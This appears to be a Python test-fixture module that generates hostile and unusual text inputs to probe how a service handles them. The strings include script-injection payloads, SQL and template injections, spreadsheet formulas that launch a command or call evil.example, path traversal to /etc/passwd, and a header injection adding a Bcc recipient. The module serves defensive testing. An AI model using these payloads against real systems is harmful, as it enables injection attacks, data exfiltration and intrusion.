"""Two hundred texts that hurt badly made services: each is kept as it is, or refused with a reason."""

from __future__ import annotations

from collections.abc import Iterator

SCRIPTS = (
    "<script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "<math><mtext></p><script>alert(1)</script>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea></textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<style>@import 'http://evil.example';</style>",
    "<meta http-equiv=refresh content=0;url=http://evil.example>",
    "<base href=//evil.example>",
    "<form action=//evil.example><button>x",
    "<object data=data:text/html,<script>alert(1)</script>>",
    "<embed src=data:image/svg+xml,<svg/onload=alert(1)>>",
    "<marquee onstart=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<img src=x onerror=&#97;lert(1)>",
    '\\"-alert(1)//',
    "';alert(1)//",
    "${alert(1)}",
    "`-alert(1)-`",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "＜script＞alert(1)＜/script＞",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<x/onclick=alert(1)>",
    "<link rel=stylesheet href=//evil.example>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "javascript:alert(1)",
    "vbscript:msgbox(1)",
    "<![CDATA[<script>alert(1)</script>]]>",
)
TEMPLATES = (
    *("{{7*7}}", "{{ config }}", "{% raw %}", "{{''.__class__.__mro__}}", "${7*7}", "#{7*7}", "<%= 7*7 %>"),
    *("{{token:00000000-0000-0000-0000-000000000000}}", "{0.__class__}", "%(name)s", "{title}", "%s%s%n", "{{{{"),
)
QUERIES = (
    *("' OR 1=1 --", "'; DROP TABLE filing; --", '" OR ""="', "1) OR (1=1", "admin'/*", "\\'; --", "$$; --"),
    *("%' AND 1=0 UNION SELECT null --", "E'\\x27'", "*)(uid=*))(|(uid=*"),
)
CELLS = (
    *('=HYPERLINK("http://evil.example")', "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "=cmd|' /C calc'!A0", "＝1+1"),
    *('=1+1";=2', "'=1+1", '=IMPORTXML("http://evil.example")'),
)
PATHS = (
    *("../../x.pdf", "..\\..\\x.pdf", "/etc/passwd", "C:\\con", "%2e%2e%2f", "file:///etc/passwd", "....//x", "~root"),
    *("nul", "a/b", ".htaccess", "x" * 100 + "/../y"),
)
HEADERS = (
    *("a\r\nBcc: v@evil.example", "a\nX: y", "a\rb", "a%0d%0aB: c", "a\u2028b", "a\u2029b", "a\u0085b", "a\x0bb"),
    *("a\x00b", "=?utf-8?q?a?=", "a, b@evil.example", '"a" <b@evil.example>'),
)
SIGNS = (
    *("\u202eevil\u202c", "\u2066a\u2069", "\u200fa", "a\u200bb", "\ufeffa", "e\u0301te\u0301", "Ŀatin", "ﬁn"),
    *("Ã©tÃ©", "â€™", "\x80\x99", "é", "é", "👩‍👩‍👧‍👦", "🏳️‍🌈", "✨🎭", "\U0001f1eb\U0001f1f7", "z\u0300\u0301\u0302"),
    *("沪上设计实验室", "جمعية الجسر", "עברית", "केसर ग्रिड", "ไทย", "Ελληνικά", "Кириллица", "日本語", "한국어", "ꙮ"),
    *("« guillemets »", "l’apostrophe", "l'apostrophe", "—", "\u00a0", "\u202f", "a\u00adb", "\ud83d"[:0] + "½", "№"),
    *("\x1b[31mred", "\x07", "\x7f", "\u061c", "\u180e", "\ufff9", "\U000e0041", "\U0010ffff", "\ue000", "𝕿"),
)
LONG = ("é" * 8000, "x" * 20_001, "a " * 4000, "👩‍👩‍👧‍👦" * 500, "\n" * 3000, "<" * 3000)


def texts() -> Iterator[str]:
    """Every text, and the short ones again in the middle of a plain sentence."""
    short = (*SCRIPTS, *TEMPLATES, *QUERIES, *CELLS, *PATHS, *HEADERS, *SIGNS)
    yield from short
    yield from LONG
    yield from (f"Un projet {one} entre deux villes" for one in short[::2])
